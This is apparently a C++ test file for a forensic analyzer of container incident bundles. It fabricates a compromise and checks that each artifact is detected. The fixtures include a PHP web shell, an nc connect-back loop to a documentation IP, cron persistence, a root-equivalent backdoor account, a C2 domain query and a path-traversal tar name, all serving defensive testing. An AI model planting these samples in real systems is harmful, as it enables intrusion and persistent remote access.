@@ -1,0 +1,287 @@
+// The analyzer on synthetic bundles built in a temporary directory (docs/bundle.md layout): a
+// tar written with libarchive, a capture written with libpcap, JSON files, SHA256SUMS.
+#include <archive.h>
+#include <archive_entry.h>
+#include <doctest/doctest.h>
+#include <unistd.h>
+
+#include <filesystem>
+#include <fstream>
+#include <nlohmann/json.hpp>
+#include <set>
+
+#include "analysis_packets.hpp"
+#include "forensic/analysis/analyzer.hpp"
+#include "forensic/evidence/hashing.hpp"
+
+using namespace analysis_test;
+using namespace forensic::analysis;
+namespace fs = std::filesystem;
+using nlohmann::json;
+
+namespace {
+
+struct temp_bundle {
+  fs::path root;
+  temp_bundle() {
+    static int n = 0;
+    root = fs::temp_directory_path() /
+           ("analysis-bundle-" + std::to_string(::getpid()) + "-" + std::to_string(n++));
+    fs::create_directories(root);
+  }
+  ~temp_bundle() {
+    std::error_code ec;
+    fs::remove_all(root, ec);
+  }
+  void write(const std::string& rel, const std::string& content) {
+    fs::create_directories((root / rel).parent_path());
+    std::ofstream(root / rel, std::ios::binary) << content;
+  }
+  void seal() {  // SHA256SUMS over every file, as the collector writes it
+    std::string sums;
+    std::vector<std::string> files;
+    for (const auto& e : fs::recursive_directory_iterator(root)) {
+      auto rel = e.path().lexically_relative(root).generic_string();
+      if (e.is_regular_file() && rel != "SHA256SUMS") files.push_back(rel);
+    }
+    std::sort(files.begin(), files.end());
+    for (const auto& f : files) sums += forensic::evidence::sha256_file(root / f) + "  " + f + "\n";
+    write("SHA256SUMS", sums);
+  }
+};
+
+struct tar_file {
+  std::string path;
+  std::string content;
+  unsigned mode = 0644;
+  bool directory = false;
+};
+
+void write_tar(const fs::path& path, const std::vector<tar_file>& files) {
+  archive* a = archive_write_new();
+  archive_write_set_format_pax_restricted(a);
+  REQUIRE(archive_write_open_filename(a, path.c_str()) == ARCHIVE_OK);
+  for (const auto& f : files) {
+    archive_entry* e = archive_entry_new();
+    archive_entry_set_pathname(e, f.path.c_str());
+    archive_entry_set_filetype(e, f.directory ? AE_IFDIR : AE_IFREG);
+    archive_entry_set_perm(e, f.mode);
+    archive_entry_set_size(e, static_cast<la_int64_t>(f.content.size()));
+    archive_entry_set_mtime(e, 1700000000, 0);
+    archive_write_header(a, e);
+    if (!f.content.empty()) archive_write_data(a, f.content.data(), f.content.size());
+    archive_entry_free(e);
+  }
+  archive_write_close(a);
+  archive_write_free(a);
+}
+
+bool has(const analysis_report& r, const std::string& kind, const std::string& text,
+         const std::string& source_part = {}) {
+  for (const auto& f : r.findings) {
+    if (f.kind == kind && f.summary.find(text) != std::string::npos &&
+        f.source.find(source_part) != std::string::npos) {
+      return true;
+    }
+  }
+  return false;
+}
+
+// The demo incident, as collection would record it.
+void build_incident(temp_bundle& b) {
+  b.write("manifest.json",
+          json{{"schema", "forensic.bundle/1"},
+               {"case", "IR-7"},
+               {"container", {{"id", std::string(64, 'a')}, {"name", "beacon|<x>"}}}}
+              .dump());
+  b.write(
+      "engine/container-inspect.json",
+      json{{"Id", std::string(64, 'a')}, {"Name", "/beacon"}, {"Config", {{"Image", "busybox"}}}}
+          .dump());
+  b.write("engine/diff.json", json::array({{{"Path", "/tmp"}, {"Kind", 0}},
+                                           {{"Path", "/tmp/dropper.sh"}, {"Kind", 1}},
+                                           {{"Path", "/var/spool/cron/crontabs"}, {"Kind", 1}},
+                                           {{"Path", "/var/spool/cron/crontabs/root"}, {"Kind", 1}},
+                                           {{"Path", "/etc/passwd"}, {"Kind", 0}},
+                                           {{"Path", "/usr/local/bin/miner"}, {"Kind", 1}},
+                                           {{"Path", "/var/www/html/up.php"}, {"Kind", 1}},
+                                           {{"Path", "/root/.secret"}, {"Kind", 1}},
+                                           {{"Path", "/var/log/auth.log"}, {"Kind", 2}}})
+                                  .dump());
+  fs::create_directories(b.root / "filesystem");
+  write_tar(b.root / "filesystem/export.tar",
+            {{"tmp/", "", 01777, true},
+             {"tmp/dropper.sh", "x\n"},
+             {"var/spool/cron/crontabs/root", "* * * * * /tmp/dropper.sh # 203.0.113.66\n", 0600},
+             {"etc/passwd", "root:x:0:0:root:/root:/bin/sh\ntoor:x:0:0::/:/bin/sh\n"},
+             {"usr/local/bin/miner",
+              std::string("\x7f"
+                          "ELF\x02\x01",
+                          6),
+              0755},
+             {"var/www/html/up.php", "<?php system($_GET['c']); ?>"},
+             {"root/.secret", "k"},
+             {"usr/bin/su", "su", 04755},
+             {"../../etc/evil\x1b[31m", "hostile name"},
+             {"bin/ls", "ls", 0755}});
+  b.write(
+      "processes/processes.json",
+      json{{"processes",
+            json::array({{{"pid", 4242},
+                          {"ns_pid", 1},
+                          {"comm", "sh"},
+                          {"cmdline", {"sh", "-c", "while true; do nc 203.0.113.66 4444; done"}},
+                          {"exe", "/bin/busybox"},
+                          {"exe_deleted", false},
+                          {"start_time", "2026-11-23T09:00:00Z"},
+                          {"fds", json::array({{{"fd", 3}, {"target", "socket:[777]"}}})}},
+                         {{"pid", 4243},
+                          {"comm", "kworkerx"},
+                          {"exe", "/tmp/.x (deleted)"},
+                          {"exe_deleted", true},
+                          {"exe_sha256", std::string(64, 'b')},
+                          {"start_time", "2026-11-23T09:00:05Z"}}})}}
+          .dump());
+  b.write("network/network.json", json{{"sockets", json::array({{{"protocol", "tcp"},
+                                                                 {"local_address", "172.18.0.2"},
+                                                                 {"local_port", 40000},
+                                                                 {"remote_address", "203.0.113.66"},
+                                                                 {"remote_port", 4444},
+                                                                 {"state", "ESTABLISHED"},
+                                                                 {"inode", 777},
+                                                                 {"pid", 4242},
+                                                                 {"comm", "nc"}},
+                                                                {{"protocol", "tcp"},
+                                                                 {"local_address", "0.0.0.0"},
+                                                                 {"local_port", 31337},
+                                                                 {"remote_address", "0.0.0.0"},
+                                                                 {"remote_port", 0},
+                                                                 {"state", "LISTEN"}}})},
+                                       {"conntrack", json::array({{{"protocol", "tcp"},
+                                                                   {"src", "172.18.0.2"},
+                                                                   {"dst", "203.0.113.66"},
+                                                                   {"sport", 40001},
+                                                                   {"dport", 4444},
+                                                                   {"state", "SYN_SENT"},
+                                                                   {"unreplied", true}}})}}
+                                      .dump());
+  fs::create_directories(b.root / "capture");
+  std::vector<timed_packet> ps;
+  for (int i = 0; i < 4; ++i) {
+    ps.push_back(
+        {1700000000 + i, ethernet(ipv4("172.18.0.2", "203.0.113.66", 6,
+                                       tcp(static_cast<std::uint16_t>(40100 + i), 4444, 0x02)))});
+  }
+  ps.push_back({1700000005, ethernet(ipv4("172.18.0.2", "172.18.0.1", 17,
+                                          udp(5353, 53, dns("c2.evil.example"))))});
+  write_capture((b.root / "capture/capture.pcapng").string(), DLT_EN10MB, ps);
+  b.write("logs/stdout.log",
+          "2026-11-23T09:00:01.000000001Z connecting to 203.0.113.66\n"
+          "2026-11-23T09:00:02.000000001Z nothing to see\n");
+}
+
+}  // namespace
+
+TEST_CASE("an incident bundle: files, persistence, processes, sockets, capture, IOCs, timeline") {
+  temp_bundle b;
+  build_incident(b);
+  b.seal();
+  analysis_options o;
+  o.iocs = ioc_set::parse("ip 203.0.113.66 # C2\ndomain evil.example\nsha256 " +
+                          std::string(64, 'b') + "\n");
+  auto r = analyze_bundle(b.root, o);
+
+  CHECK(r.verification.status == "verified");
+  CHECK(r.container_name == "beacon|<x>");
+  CHECK(r.case_id == "IR-7");
+  CHECK(has(r, "temp_file", "/tmp/dropper.sh", "engine/diff.json"));
+  CHECK(has(r, "persistence", "/var/spool/cron/crontabs/root", "filesystem/export.tar"));
+  CHECK_FALSE(has(r, "persistence", "/var/spool/cron/crontabs:"));  // the parent directory
+  CHECK(has(r, "account_change", "/etc/passwd"));
+  CHECK(has(r, "new_executable", "/usr/local/bin/miner"));
+  CHECK(has(r, "web_script", "/var/www/html/up.php"));
+  CHECK(has(r, "hidden_file", "/root/.secret"));
+  CHECK(has(r, "log_deleted", "/var/log/auth.log"));
+  CHECK(has(r, "setuid", "/usr/bin/su"));
+  CHECK_FALSE(has(r, "new_executable", "/bin/ls"));
+  CHECK(has(r, "shell_with_socket", "sh (pid 4242)", "processes/processes.json"));
+  CHECK(has(r, "deleted_executable", "kworkerx"));
+  CHECK(has(r, "unexpected_listener", ":31337", "network/network.json"));
+  CHECK(has(r, "remote_socket", "203.0.113.66:4444", "network/network.json"));
+  CHECK(has(r, "unreplied_flow", "203.0.113.66", "network/network.json"));
+  CHECK(has(r, "external_traffic", "203.0.113.66:4444/tcp", "capture/capture.pcapng"));
+  CHECK(has(r, "unanswered_syn", "4 TCP connection attempt(s) to 203.0.113.66:4444/tcp"));
+  CHECK(has(r, "dns_query", "c2.evil.example"));
+  // IOC hits, each saying where.
+  CHECK(has(r, "ioc_match", "203.0.113.66", "capture/capture.pcapng"));
+  CHECK(has(r, "ioc_match", "203.0.113.66", "network/network.json"));
+  CHECK(has(r, "ioc_match", "evil.example", "capture/capture.pcapng"));
+  CHECK(has(r, "ioc_match", "file /var/spool/cron/crontabs/root", "filesystem/export.tar"));
+  CHECK(has(r, "ioc_match", std::string(64, 'b'), "processes/processes.json"));
+  CHECK(has(r, "ioc_match", "log line", "logs/stdout.log"));
+  // Every finding names its bundle file.
+  for (const auto& f : r.findings) CHECK_FALSE(f.source.empty());
+  // High first.
+  CHECK(r.findings.front().level == severity::high);
+  // Timeline in UTC, sorted, from files, processes, logs and flows.
+  REQUIRE(r.timeline.size() >= 6);
+  CHECK(std::is_sorted(r.timeline.begin(), r.timeline.end(),
+                       [](const auto& x, const auto& y) { return x.time < y.time; }));
+  std::set<std::string> kinds;
+  for (const auto& e : r.timeline) kinds.insert(e.kind);
+  CHECK(kinds.count("file_mtime"));
+  CHECK(kinds.count("process_start"));
+  CHECK(kinds.count("log"));
+  CHECK(kinds.count("flow_first"));
+  CHECK(r.flows.size() == 5);
+
+  auto doc = to_json(r);
+  CHECK(doc["schema"] == "forensic.analysis/1");
+  CHECK(doc["verification"]["status"] == "verified");
+  CHECK(doc["findings"].size() == r.findings.size());
+  auto md = to_markdown(r);
+  CHECK(md.find("# Incident analysis: beacon\\|&lt;x&gt;") != std::string::npos);
+  CHECK(md.find("Integrity: **verified**") != std::string::npos);
+  CHECK(md.find("\x1b") == std::string::npos);  // the hostile tar name never reaches a terminal
+}
+
+TEST_CASE("a tampered bundle is reported as failing verification, and still analysed") {
+  temp_bundle b;
+  build_incident(b);
+  b.seal();
+  b.write("logs/stdout.log", "2026-11-23T09:00:01Z rewritten\n");
+  b.write("extra.txt", "not listed");
+  std::ofstream(b.root / "SHA256SUMS", std::ios::app)
+      << std::string(64, '0') << "  ../../etc/passwd\n";
+  auto r = analyze_bundle(b.root);
+  CHECK(r.verification.status == "failed");
+  auto problems = [&](const std::string& s) {
+    for (const auto& p : r.verification.problems) {
+      if (p.find(s) != std::string::npos) return true;
+    }
+    return false;
+  };
+  CHECK(problems("logs/stdout.log: sha256 mismatch"));
+  CHECK(problems("extra.txt: present but not in SHA256SUMS"));
+  CHECK(problems("../../etc/passwd: path leaves the bundle"));
+  CHECK(r.findings.front().kind == "verification_failed");
+  CHECK(has(r, "temp_file", "/tmp/dropper.sh"));
+  CHECK(to_markdown(r).find("failed verification") != std::string::npos);
+}
+
+TEST_CASE("an empty or partial bundle: every file is optional") {
+  temp_bundle b;
+  auto r = analyze_bundle(b.root);
+  CHECK(r.verification.status == "unverified");
+  REQUIRE(r.findings.size() == 1);
+  CHECK(r.findings[0].kind == "unverified");
+  CHECK(std::find(r.files_missing.begin(), r.files_missing.end(), "capture/capture.pcapng") !=
+        r.files_missing.end());
+  b.write("engine/diff.json", "{not json");
+  b.write("network/network.json", "[]");
+  b.write("capture/capture.pcapng", "garbage");
+  b.write("filesystem/export.tar", "garbage that is not a tar");
+  auto r2 = analyze_bundle(b.root);
+  CHECK(r2.warnings.size() >= 2);
+  CHECK_THROWS(analyze_bundle(b.root / "no-such-dir"));
+}
